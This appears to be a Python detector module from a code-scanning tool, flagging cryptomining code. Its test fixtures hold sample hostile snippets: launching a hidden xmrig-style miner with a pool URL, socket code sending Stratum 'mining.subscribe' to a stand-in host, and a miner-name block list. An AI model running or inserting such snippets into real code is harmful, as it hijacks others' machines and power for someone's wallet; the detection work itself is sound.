"""A miner of crypto-currency is started, configured or talked to.

It burns the machine's time and power for whoever owns the wallet.  The signs are a pool's address (`stratum+tcp`), a
miner's program or options, or the pool's protocol (`mining.subscribe`) in something that is run, written or sent.
A list of such words in a detector is none.  See CWE-506 and MITRE ATT&CK T1496.
"""

from __future__ import annotations

from collections.abc import Iterator

import libcst as cst

from codeguard.checks._api import Bad, Check, Good, Hit, Miss
from codeguard.checks.malicious._calls import calls
from codeguard.checks.malicious._channels import sendings
from codeguard.checks.malicious._reach import reach
from codeguard.checks.malicious._shell import commands
from codeguard.checks.malicious._writes import writes
from codeguard.knowledge.malicious import running
from codeguard.model import Confidence, Severity
from codeguard.syntax.unit import Unit
from codeguard.syntax.values import string_value

SPEAK = ("send", "sendall", "write")
CONNECT = {"socket.socket", "socket.create_connection", "asyncio.open_connection", "telnetlib.Telnet"}
PROTOCOL = "mining."  # of the methods of Stratum


def find(unit: Unit) -> Iterator[Hit]:
    """Report runs of a miner, talk to a pool, and configurations of a miner."""
    for command in unit.fact(commands):
        match = running.MINER.search(command.text)
        if match and not command.text.startswith(("pkill", "killall", "pgrep", "which", "kill")):
            yield Hit(
                command.call,
                f"This runs a miner of crypto-currency (`{match.group()}`) on this machine for someone's wallet",
            )
    if not running.MINER.search(unit.text):
        return
    for sending in unit.fact(sendings):
        for arg in sending.call.args[:1]:
            if any(running.MINER.search(text) for text in unit.fact(reach).constants(arg.value)):
                yield Hit(sending.call, "This talks to a mining pool: the machine works for someone's wallet")
                return
    if PROTOCOL in unit.text:
        known = unit.fact(calls)
        speak = [call for method in SPEAK for call in known.by_method.get(method, ())]
        sockets = {id(unit.function_of(call)) for call in speak} if CONNECT & known.by_name.keys() else set()
        for call in unit.nodes(cst.Call):
            texts = [string_value(a.value) for a in call.args if isinstance(a.value, cst.SimpleString)]
            if any(isinstance(t, str) and t.startswith(PROTOCOL) and running.MINER.search(t) for t in texts):
                if id(unit.fact(reach).local(call.func)) in sockets:
                    yield Hit(call, "This talks to a mining pool: the machine works for someone's wallet")
                    return
    for write in unit.fact(writes):
        if any("stratum+" in text for text in write.content):
            yield Hit(write.call, "This writes the configuration of a miner of crypto-currency")


CHECK = Check(
    id="CGM010",
    behaviour="mine crypto-currency",
    name="cryptomining",
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    cwe=(506,),
    find=find,
    fix="Remove the code.",
    bad=(
        Bad(
            "import subprocess\nsubprocess.Popen(['/tmp/.x/agent', '-o', 'stratum+tcp://p.example.invalid:3333', '-u', 'W', '--donate-level=1'])  # finding\n"
        ),
        Bad("import os\nos.system('nohup ./xmrig -B &')  # finding\n"),
        Bad(
            "import json, socket\n\nclass Pool:\n    def __init__(self, address):\n        self.s = socket.create_connection(address)\n        self.tell('mining.authorize', ['W', 'x'])  # finding\n\n    def tell(self, what, args):\n        self.s.sendall(json.dumps({'id': 1, 'method': what, 'params': args}).encode())\n"
        ),
        Bad(
            "import json, socket\ns = socket.socket()\ns.connect(('p.example.invalid', 3333))\ns.sendall(json.dumps({'id': 1, 'method': 'mining.subscribe', 'params': []}).encode())  # finding\n"
        ),
        Bad(
            "import json\nconf = {'pools': [{'url': 'stratum+ssl://p.example.invalid:443', 'user': 'W'}]}\nwith open('config.json', 'w') as f:\n    json.dump(conf, f)  # finding\n"
        ),
    ),
    good=(
        Good(
            "import hashlib\n\ndef proof(block, difficulty=4):\n    n = 0\n    while not hashlib.sha256(f'{block}{n}'.encode()).hexdigest().startswith('0' * difficulty):\n        n += 1\n    return n\n"
        ),
        Good(
            "BLOCKED = ['xmrig', 'minerd', 'stratum+tcp://']\n\ndef suspicious(line):\n    return any(b in line for b in BLOCKED)\n"
        ),
        Good("import subprocess\nsubprocess.run(['pkill', '-f', 'xmrig'])\n"),
        Good(
            "import socket\n\ndef blocked(line):\n    return line.startswith('mining.subscribe')\n\ndef ask(host):\n    s = socket.create_connection((host, 43))\n    s.sendall(b'version')\n    return blocked('mining.subscribe')\n"
        ),
    ),
    misses=(
        Miss(
            "import subprocess\nsubprocess.Popen(['/tmp/a', '-c', '/tmp/a.json'])  # finding\n",
            why="a renamed miner with its options in a file looks like any program",
        ),
    ),
)
